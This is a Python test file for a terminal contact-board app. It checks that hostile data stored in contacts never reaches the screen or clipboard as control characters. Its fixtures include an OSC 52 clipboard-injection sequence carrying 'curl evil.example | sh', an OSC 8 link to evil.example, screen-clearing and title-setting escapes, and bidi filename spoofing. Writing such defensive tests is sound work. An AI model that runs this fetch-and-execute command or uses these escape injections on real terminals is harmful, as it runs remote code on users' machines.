"""Hostile data on the board: no control character from the data reaches the terminal or the clipboard.

The contacts are written straight through the store (as an older version, or a shared
file, could have left them), so nothing was cleaned on the way in: what the board draws
and copies must be clean on the way out.
"""

from __future__ import annotations

import base64
from datetime import timedelta

from board.clipboard import osc52
from board.model import Kind, Stage
from board.text import has_controls
from tests.helpers import FIXED_NOW, add, palette_choice, screen_text, wait_until

OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
OSC0 = "\x1b]0;pwned\x07"
OSC8 = "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"
CSI = "\x1b[2J\x1b[31m"
C1 = "\x9b31m"
BIDI = "\u202egnp.exe\u202c\u2066x\u2069"
HOSTILE = OSC52 + OSC0 + OSC8 + CSI + C1 + BIDI


def _hostile(store, stage=Stage.MET, days_ago=30):
    when = FIXED_NOW - timedelta(days=days_ago)
    contact = add(
        store, f"Zed{HOSTILE} Evil", at=when, company=f"Acme{CSI}", title=f"Boss{OSC0}",
        stage=stage, tags=[f"bni{C1}"], expertise=[f"estate law{OSC8}"],
        needs=f"more clients{BIDI}", met_at=f"BNI breakfast{OSC52}", notes=f"line one{CSI}\nline two{OSC0}",
    )
    store.log(contact.id, Kind.CALL, f"talked about {HOSTILE}", at=when)
    return contact


def assert_clean(app, where: str) -> None:
    svg = app.export_screenshot()
    text = screen_text(app)
    assert not has_controls(svg), f"{where}: a control character reached the screen"
    assert "Zed" in text or where in ("palette",), f"{where}: the contact is not shown:\n{text}"


async def test_hostile_names_never_reach_the_terminal_or_the_clipboard(store, make_app):
    zed = _hostile(store)
    add(store, "Di Lawyer", at=FIXED_NOW, stage=Stage.TRUSTED, expertise=["estate law"])
    app = make_app(store)
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await pilot.pause()
        assert_clean(app, "board")
        for y in range(12):  # the card lines as the column draws them
            assert not has_controls(app.screen.query_one("#cards-met").render_line(y).text)

        await pilot.press("c")  # copy the top message: it quotes the name
        await wait_until(pilot, lambda: "Copied" in screen_text(app))  # the notice names Zed
        assert "Zed" in app.clipboard and not has_controls(app.clipboard)
        assert not has_controls(base64.b64decode(osc52(HOSTILE)[len("\x1b]52;c;"):-1]).decode())
        assert_clean(app, "board after the copy notice")

        for keys, back in (
            (["enter"], ["escape"]),  # details and timeline
            (["t"], ["escape"]),  # Today
            (["m"], ["escape"]),  # the message picker
            (["e"], ["escape"]),  # the edit form
            (["i"], ["escape"]),  # the log form
            (["s"], ["escape"]),  # snooze
            (["x"], ["n"]),  # archive? (asks)
            (["w"], ["escape"]),  # who knows, from Zed's needs
        ):
            await pilot.press(*keys)
            await pilot.pause()
            assert_clean(app, " ".join(keys))
            await pilot.press(*back)
            await pilot.pause()

        await pilot.press("ctrl+p", *"Zed")
        await wait_until(pilot, lambda: "Go to Zed" in palette_choice(app))
        assert_clean(app, "palette")
        await pilot.press("escape")
    assert store.get(zed.id).name.startswith("Zed\x1b")  # the board showed it clean, left it as stored
